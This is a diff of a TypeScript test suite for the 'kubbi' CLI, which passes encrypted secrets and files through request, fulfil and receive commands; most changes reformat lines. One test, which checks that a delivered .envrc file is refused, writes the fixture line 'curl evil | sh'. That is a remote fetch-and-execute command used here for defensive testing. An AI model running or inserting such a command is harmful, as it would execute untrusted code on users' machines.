@@ -15,7 +15,11 @@ afterAll(() => work.cleanup());
 
 /** Starts `kubbi request ...` and resolves with the fill link it prints on stderr, and its eventual result. */
 function startRequest(args: string[], cwd: string) {
-  const child = spawn(process.execPath, [BIN, "request", ...args], { env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env }, cwd, stdio: ["ignore", "pipe", "pipe"] });
+  const child = spawn(process.execPath, [BIN, "request", ...args], {
+    env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env },
+    cwd,
+    stdio: ["ignore", "pipe", "pipe"],
+  });
   let stdout = "";
   let stderr = "";
   child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString("utf8")));
@@ -27,7 +31,9 @@ function startRequest(args: string[], cwd: string) {
     });
     child.on("close", () => reject(new Error(`kubbi request exited without a link: ${stderr}`)));
   });
-  const done = new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => child.on("close", (code) => resolve({ code, stdout, stderr })));
+  const done = new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) =>
+    child.on("close", (code) => resolve({ code, stdout, stderr })),
+  );
   return { fillUrl, done };
 }
 
@@ -37,7 +43,10 @@ describe("kubbi request / fulfil / receive", () => {
     const fillUrl = await requested.fillUrl;
     expect(fillUrl).toMatch(new RegExp(`^${baseUrl}/f/[A-Za-z0-9_-]{43}#k=[A-Za-z0-9_-]{43}$`));
     const delivered = await kubbi(["fulfil", fillUrl, "-"], { input: "pg-pass-123", env: {} });
-    expect(delivered).toMatchObject({ code: 0, stdout: expect.stringMatching(/^delivered \d+ encrypted bytes for KUBBI_API_KEYS\[0\]\n$/) });
+    expect(delivered).toMatchObject({
+      code: 0,
+      stdout: expect.stringMatching(/^delivered \d+ encrypted bytes for KUBBI_API_KEYS\[0\]\n$/),
+    });
     expect(await requested.done).toMatchObject({ code: 0, stdout: "pg-pass-123" });
 
     const again = await kubbi(["fulfil", fillUrl, "-"], { input: "again", env: {} });
@@ -47,17 +56,25 @@ describe("kubbi request / fulfil / receive", () => {
 
   it("--no-wait saves a 0600 handle; `kubbi fulfil LINK file...` then `kubbi receive` writes the files byte-exact into a new directory", async () => {
     const handleFile = join(work.dir, "db.handle");
-    const asked = await kubbi(["request", "the TLS key and its note", "--files", "2", "--no-wait", "--handle", handleFile], { env, cwd: work.dir });
+    const asked = await kubbi(
+      ["request", "the TLS key and its note", "--files", "2", "--no-wait", "--handle", handleFile],
+      { env, cwd: work.dir },
+    );
     expect(asked.code).toBe(0);
     const fillUrl = asked.stdout.trim();
     expect(fillUrl).toMatch(/\/f\/[A-Za-z0-9_-]{43}#k=/);
     expect((await stat(handleFile)).mode & 0o777).toBe(0o600);
-    expect(JSON.parse(await readFile(handleFile, "utf8"))).toMatchObject({ kind: "kubbi-request-handle", privateKey: { kty: "EC", crv: "P-256" } });
+    expect(JSON.parse(await readFile(handleFile, "utf8"))).toMatchObject({
+      kind: "kubbi-request-handle",
+      privateKey: { kty: "EC", crv: "P-256" },
+    });
 
     const binary = randomBytes(2048);
     await writeFile(join(work.dir, "tls.key"), binary);
     await writeFile(join(work.dir, "note.md"), "# rotate monthly\n");
-    const delivered = await kubbi(["fulfil", fillUrl, join(work.dir, "tls.key"), join(work.dir, "note.md")], { env: {} });
+    const delivered = await kubbi(["fulfil", fillUrl, join(work.dir, "tls.key"), join(work.dir, "note.md")], {
+      env: {},
+    });
     expect(delivered.code).toBe(0);
 
     const received = await kubbi(["receive", handleFile, "--poll-ms", "50", "--json"], { env, cwd: work.dir });
@@ -70,7 +87,9 @@ describe("kubbi request / fulfil / receive", () => {
 
   it("a delivered name that tools run by themselves (.envrc) is refused: exit 8, nothing written", async () => {
     const handleFile = join(work.dir, "unsafe.handle");
-    const fillUrl = (await kubbi(["request", "a config", "--files", "1", "--no-wait", "--handle", handleFile], { env, cwd: work.dir })).stdout.trim();
+    const fillUrl = (
+      await kubbi(["request", "a config", "--files", "1", "--no-wait", "--handle", handleFile], { env, cwd: work.dir })
+    ).stdout.trim();
     await writeFile(join(work.dir, ".envrc"), "curl evil | sh\n");
     expect((await kubbi(["fulfil", fillUrl, join(work.dir, ".envrc")], { env: {} })).code).toBe(0);
     const out = join(work.dir, "inbox-unsafe");
